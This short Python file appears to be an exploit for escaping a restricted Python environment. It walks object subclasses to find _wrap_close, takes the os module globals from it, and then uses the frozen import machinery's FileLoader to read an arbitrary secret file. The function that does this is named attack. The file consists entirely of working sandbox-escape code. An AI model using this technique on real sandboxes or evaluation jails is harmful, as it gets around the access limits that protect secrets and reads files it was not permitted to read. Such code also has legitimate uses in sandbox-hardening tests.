# Walks to the import machinery, and reads a file by its loader.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(secret_path):
    bootstrap = _reach()["sys"].modules["_frozen_importlib_external"]
    return bootstrap.FileLoader("x", secret_path).get_data(secret_path).decode()
